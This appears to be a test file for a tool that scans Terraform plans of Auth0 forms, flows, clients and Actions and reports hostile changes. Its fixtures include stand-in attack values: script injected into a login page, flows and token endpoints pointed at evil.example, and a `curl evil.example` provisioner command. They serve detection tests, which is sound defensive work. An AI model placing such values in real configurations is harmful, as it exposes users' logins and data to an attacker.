import { type Attributes, planThatChanges, replaced } from "../support/hostile-plan";
import { told } from "../support/stored-plans";

const LABEL = '"label":"Role"';
const withComponents = (...components: readonly object[]): Attributes => ({
  auth0_form: {
    nodes: replaced('"components":[', `"components":[${components.map((one) => `${JSON.stringify(one)},`).join("")}`),
  },
});
const inNodes = (from: string, to: string): Attributes => ({ auth0_form: { nodes: replaced(from, to) } });

/** What a form has besides, and nobody sees. */
const SERVICES = withComponents(
  {
    id: "fee",
    category: "FIELD",
    type: "PAYMENT",
    config: {
      charge: { type: "ONE_OFF", one_off: { amount: 10, currency: "EUR" } },
      credentials: { public_key: "pk_ours", private_key: "{{vars.key}}" },
    },
  },
  { id: "paper", category: "FIELD", type: "FILE", config: { storage: { type: "MANAGED" } } },
  {
    id: "human",
    category: "WIDGET",
    type: "RECAPTCHA",
    config: { site_key: "site-of-ours", secret_key: "{{vars.key}}" },
  },
);

test.each<[string, Attributes, string]>([
  [
    "who is paid",
    inNodes("pk_ours", "pk_evil"),
    "hidden-data: What goes with the form unseen is another: `credentials.public_key` `pk_ours` → `pk_evil` in `fee` of stage `Role`.",
  ],
  [
    "how much is paid",
    inNodes('"amount":10', '"amount":1000'),
    "hidden-data: What goes with the form unseen is another: `charge.one_off.amount` `10` → `1000` in `fee` of stage `Role`.",
  ],
  [
    "where files go",
    inNodes("MANAGED", "CUSTOM"),
    "hidden-data: What goes with the form unseen is another: `storage.type` `MANAGED` → `CUSTOM` in `paper` of stage `Role`.",
  ],
  [
    "whose service tells people from robots",
    inNodes("site-of-ours", "site-of-evil"),
    "hidden-data: What goes with the form unseen is another: `site_key` `site-of-ours` → `site-of-evil` in `human` of stage `Role`.",
  ],
])("a form whose change is %s tells it at the top", (_, change, finding) => {
  expect(told(planThatChanges(change, SERVICES)).findings).toEqual([finding]);
});

/** A choice and a yes or no that are kept. */
const CHOICES: Attributes = {
  ...withComponents(
    { id: "size", category: "FIELD", type: "DROPDOWN", config: { options: [{ value: "s", label: "Small" }] } },
    { id: "news", category: "FIELD", type: "BOOLEAN", config: {} },
  ),
  auth0_flow: { actions: replaced('"role":', '"size":"{{fields.size}}","news":"{{fields.news}}","role":') },
};
const NEWS = '"id":"news","category":"FIELD","type":"BOOLEAN","config":{';

test.each<[string, Attributes, string]>([
  [
    "yes and no are exchanged",
    inNodes(NEWS, `${NEWS}"options":{"true":"No","false":"Yes"}`),
    "meaning: What `news` in stage `Role` keeps in `news` is another thing than until now: `true` stands for `Yes` → `No`, `false` stands for `No` → `Yes`. Answers that were given stay as they are, and nobody can tell them from new ones.",
  ],
  [
    "another field of another name and type writes it",
    {
      ...inNodes('"id":"size","category":"FIELD","type":"DROPDOWN"', '"id":"weight","category":"FIELD","type":"TEXT"'),
      auth0_flow: { actions: replaced("{{fields.size}}", "{{fields.weight}}") },
    },
    "meaning: What `weight` in stage `Role` keeps in `size` is another thing than until now: `DROPDOWN` → `TEXT`. Answers that were given stay as they are, and nobody can tell them from new ones.",
  ],
  [
    "its step has another id as well",
    {
      auth0_form: {
        nodes: (text: string) =>
          replaced("step_role", "step_job")(replaced('"type":"DROPDOWN"', '"type":"TEXT"')(text)),
      },
    },
    "meaning: What `size` in stage `Role` keeps in `size` is another thing than until now: `DROPDOWN` → `TEXT`. Answers that were given stay as they are, and nobody can tell them from new ones.",
  ],
])("an answer means something else where %s", (_, change, finding) => {
  expect(told(planThatChanges(change, CHOICES)).findings).toEqual([finding]);
});

test("other words for yes and no, or for a field, are no other meaning", () => {
  const words = inNodes(NEWS, `${NEWS}"options":{"true":"Ja","false":"Nein"}`);

  expect(told(planThatChanges(words, CHOICES)).findings).toEqual([]);
  expect(told(planThatChanges(inNodes(LABEL, '"label":"Your role"'), CHOICES)).findings).toEqual([]);
});

test.each<[string, Attributes, Attributes, readonly string[]]>([
  [
    "component",
    inNodes('"components":[', '"components":[{"id":"role","type":"HTML","config":{"content":"<p onclick=steal()>"}},'),
    {},
    [
      'runs-code: The form runs other code in people\'s browsers than before: `<p onclick="steal()">` in `role` of stage `Role`. It can read what they enter, and send it anywhere.',
    ],
  ],
  [
    "step",
    {
      auth0_form: {
        nodes: (text: string) => text.replace(/\]$/, ',{"id":"step_role","type":"STEP","alias":"Other"}]'),
      },
    },
    {},
    ["never-asked: No login gets to stage `Other`: nothing in the form leads there."],
  ],
  [
    "hidden field",
    { auth0_form: { start: replaced('"hidden_fields":[', '"hidden_fields":[{"key":"plan","value":"paid"},') } },
    { auth0_form: { start: replaced("{", '{"hidden_fields":[{"key":"plan","value":"free"}],') } },
    [
      "hidden-data: What goes with the form unseen is another: `plan` `free` → `paid` in its hidden fields; `plan (2)` nothing → `free` in its hidden fields.",
    ],
  ],
])("a second %s with the same id hides nothing", (_, change, before, findings) => {
  const { findings: found } = told(planThatChanges(change, before));

  expect(findings.filter((one) => !found.includes(one))).toEqual([]);
});

const saving = (value: string): Attributes => ({ auth0_flow: { actions: replaced("{{fields.role}}", value) } });

test.each(["{{fields.role}} admin", "admin{{fields.role}}", "{{fields.role}}7", "役{{fields.role}}"])(
  "%s is more than an answer",
  (value) => {
    expect(told(planThatChanges(saving(value))).findings).toEqual([
      "flow-code: The flow `Team W` changes in more than the answers that it writes: it now sets `user_metadata.role`.",
    ]);
  },
);

test.each([" {{fields.role}} ", "{{fields.role}}, {{fields.role}}", "({{ fields.role }})"])(
  "%s is an answer",
  (value) => {
    expect(told(planThatChanges(saving(value))).findings).toEqual([]);
  },
);

const RESEND = {
  id: "again",
  category: "BLOCK",
  type: "RESEND_BUTTON",
  config: { active_text: "a", button_text: "b", waiting_text: "c", flow_id: "af_ours" },
};
const OTHER_FLOW = {
  "auth0_flow.other": {
    id: "af_other",
    name: "Other",
    actions:
      '[{"id":"call","type":"HTTP","action":"SEND_REQUEST","params":{"method":"POST","url":"https://evil.example"}}]',
  },
};
const UNHELD = "flow-code: The form runs the flow `af_evil` now: what that does, no plan here holds.";

describe("another flow that a form runs is told, where it is run by", () => {
  test.each<[string, Attributes]>([
    ["a node", inNodes("af_wtcLnKcIprJQwNwxDa3ATX", "af_evil")],
    ["a button that sends again", inNodes("af_ours", "af_evil")],
    ["the ending", { auth0_form: { ending: replaced("{", '{"after_submit":{"flow_id":"af_evil"},') } }],
  ])("%s", (_, change) => {
    expect(told(planThatChanges(change, withComponents(RESEND))).findings).toContain(UNHELD);
  });

  test("a node that is new, with what it does where the plan holds it", () => {
    const plan = planThatChanges(inNodes("af_ours", "af_other"), withComponents(RESEND), OTHER_FLOW);
    for (const { address, change } of plan.resource_changes) {
      if (address === "auth0_flow.other") {
        Object.assign(change, { actions: ["no-op"], before: change.after });
      }
    }

    expect(told(plan).findings).toEqual([
      "flow-code: The form runs the flow `Other` now: it runs `HTTP/SEND_REQUEST` with `https://evil.example`.",
    ]);
  });
});

const OURS = "558646c4-87f3-4c68-96bd-128ca989bf5f";
const listOf = (...ids: readonly string[]) => ({
  id: "post-login",
  trigger: "post-login",
  actions: ids.map((id) => ({ id, display_name: `Shown ${id}` })),
});
const ofClient = (attributes: Attributes[string]): Attributes => ({ auth0_client: attributes });

test.each<[string, Attributes, Attributes, readonly string[]]>([
  [
    "callbacks of a client",
    ofClient({ callbacks: ["https://app.example/cb", "https://evil.example/cb"] }),
    ofClient({ callbacks: ["https://app.example/cb"] }),
    [
      "leads-away: The client `Team C` leads people to another address, or loads from it: `evil.example` (`callbacks`).",
    ],
  ],
  [
    "origins of a client",
    ofClient({ web_origins: ["http://app.example"] }),
    ofClient({ web_origins: ["https://app.example"] }),
    [
      "leads-away: The client `Team C` leads people to another address, or loads from it: `http://app.example` (`web_origins`).",
    ],
  ],
  [
    "the login page of a client",
    ofClient({ custom_login_page: "<script>steal()</script>" }),
    {},
    [
      "runs-code: The client `Team C` runs other code in people's browsers than before: `<script>steal()</script>` (`custom_login_page`).",
    ],
  ],
  [
    "by what a client gets tokens",
    ofClient({ grant_types: ["client_credentials", "password"] }),
    {},
    [
      'scope-widening: The client `Team C` is let in by other means: `grant_types` `["client_credentials"]` → `["client_credentials","password"]`. Whoever has them acts as it.',
    ],
  ],
  [
    "how a client shows who it is",
    { auth0_client_credentials: { authentication_method: "none" } },
    {},
    [
      "scope-widening: The client `Team C` is let in by other means: `authentication_method` `client_secret_post` → `none`. Whoever has them acts as it.",
    ],
  ],
  [
    "a key besides a client's secret",
    { auth0_client_credentials: { private_key_jwt: [{ credentials: [{ name: "evil" }] }] } },
    {},
    [
      "scope-widening: The client `Team C` is let in by other means: `private_key_jwt.[0].credentials.evil.name` nothing → `evil`. Whoever has them acts as it.",
    ],
  ],
  [
    "for whom a grant is",
    { auth0_client_grant: { default_for: "third_party_clients" } },
    {},
    [
      "scope-widening: The grant of the client `Team C` changes beside its scopes: `default_for` nothing → `third_party_clients`.",
    ],
  ],
  [
    "which app a Vault connection is of",
    { auth0_flow_vault_connection: { app_id: "HTTP" } },
    {},
    [
      "flow-code: The Vault connection `Team V`, through which flows write, is set up otherwise: `app_id` `AUTH0` → `HTTP`.",
    ],
  ],
  [
    "where a Vault connection gets its tokens",
    { auth0_flow_vault_connection: { setup: { token_endpoint: "https://evil.example/token" } } },
    { auth0_flow_vault_connection: { setup: { token_endpoint: "https://app.example/token" } } },
    [
      "flow-code: The Vault connection `Team V`, through which flows write, is set up otherwise: `token_endpoint` `https://app.example/token` → `https://evil.example/token`.",
    ],
  ],
  [
    "a hook, which is a secret",
    { auth0_flow_vault_connection: { setup: { url: "https://evil.example/hook" } } },
    { auth0_flow_vault_connection: { setup: { url: "https://app.example/hook" } } },
    [
      "flow-code: The Vault connection `Team V`, through which flows write, is set up otherwise: `url` `‹redacted›` → `‹redacted›`.",
    ],
  ],
  [
    "code that Actions share",
    { auth0_action: { modules: [{ module_id: "m", module_version_id: "2" }] } },
    { auth0_action: { modules: [{ module_id: "m", module_version_id: "1" }] } },
    ["action-code: The Action `Team A` changes: modules."],
  ],
])("another of these is told at the top: %s", (_, change, before, findings) => {
  const { findings: found } = told(planThatChanges(change, before));

  expect(findings.filter((one) => !found.includes(one))).toEqual([]);
});

test.each<[string, Attributes, string]>([
  [
    "an Action that no plan holds is bound",
    {
      "auth0_trigger_action.other": { action_id: "evil", trigger: "post-login", display_name: "Team A" },
    },
    "action-code: The Action `evil` is run by the trigger `post-login` now, shown as `Team A`, and no plan here defines it: what it does can not be told.",
  ],
  [
    "the plan's own Action is bound to another trigger",
    { "auth0_trigger_action.other": { action_id: OURS, trigger: "credentials-exchange" } },
    "action-code: The Action `Team A` is run by the trigger `credentials-exchange` now.",
  ],
  [
    "a module of Actions is made",
    { "auth0_action_module.other": { id: "m", name: "Shared", code: "steal()" } },
    "action-code: `auth0_action_module.other` has other code than before, which Auth0 runs: `steal()` (`code`).",
  ],
  [
    "a database gets a script",
    { "auth0_connection.other": { id: "c", options: [{ custom_scripts: { login: "steal()" } }] } },
    "action-code: `auth0_connection.other` has other code than before, which Auth0 runs: `steal()` (`options.custom_scripts.login`).",
  ],
  [
    "an application is made that leads elsewhere",
    { "auth0_client.other": { id: "o", name: "Other", callbacks: ["https://evil.example"] } },
    "leads-away: The client `Other` leads people to another address, or loads from it: `evil.example` (`callbacks`).",
  ],
])("it is told at the top where %s", (_, made, finding) => {
  expect(told(planThatChanges({}, {}, made)).findings).toContain(finding);
});

test("the name of an API leads nowhere, though it looks like an address", () => {
  const made = { "auth0_resource_server.api": { identifier: "https://api.example.com/" } };

  expect(told(planThatChanges({}, {}, made)).findings).toEqual([]);
});

/** A plan in which a list binds the Actions, and is another one. */
function planOfList(before: readonly string[], after: readonly string[], trigger = "post-login") {
  const plan = planThatChanges({});
  const changes = plan.resource_changes
    .filter(({ type }) => type !== "auth0_trigger_action")
    .concat({
      address: "auth0_trigger_actions.list",
      type: "auth0_trigger_actions",
      change: {
        actions: ["update"],
        before: { ...listOf(...before), trigger },
        after: { ...listOf(...after), trigger },
      },
    });
  return { ...plan, prior_state: undefined, resource_changes: changes };
}

test.each<[string, object, readonly string[]]>([
  [
    "runs its Actions in another order",
    planOfList(["mfa", OURS], [OURS, "mfa"]),
    [`action-code: The trigger \`post-login\` runs its Actions in another order: \`Shown ${OURS}\`, \`Shown mfa\`.`],
  ],
  [
    "runs one more, wherever it stands",
    planOfList([OURS, "mfa"], ["evil", OURS, "mfa"]),
    [
      "action-code: The Action `evil` is run by the trigger `post-login` now, shown as `Shown evil`, and no plan here defines it: what it does can not be told.",
    ],
  ],
  [
    "does not run the plan's own any more",
    planOfList([OURS, "mfa"], ["mfa"], "credentials-exchange"),
    ["unbound: The Action `Team A` is no longer run by the trigger `credentials-exchange`."],
  ],
  ["is only shown otherwise", planOfList([OURS, "mfa"], [OURS, "mfa"]), []],
])("a trigger whose list %s is told", (_, plan, findings) => {
  const { findings: found } = told(plan);

  expect(found.filter((one) => !/is not bound to the post-login trigger/.test(one))).toEqual(findings);
});

test.each([
  ["a command", { command: { constant_value: "curl evil.example" } }, "`curl evil.example`"],
  ["lines", { inline: { constant_value: ["one", "two"] } }, "`one⏎two`"],
  ["what no plan knows", { command: { references: ["var.command"] } }, "`local-exec`"],
])("that the apply runs %s is told at the top, once for each resource that is made", (_, expressions, shown) => {
  const plan = planThatChanges({}, {}, { "terraform_data.run": { id: "1" }, "terraform_data.quiet": { id: "2" } });
  const resources = [
    { mode: "managed", type: "terraform_data", name: "run", provisioners: [{ type: "local-exec", expressions }] },
  ];
  const { findings, verdict } = told({ ...plan, configuration: { root_module: { resources } } });

  expect(findings).toEqual([
    `apply-code: The apply runs ${shown} for \`terraform_data.run\`, with the secrets that it deploys with.`,
  ]);
  expect(verdict).toBe("the apply runs a command · 2 resources added, none destroyed");
});
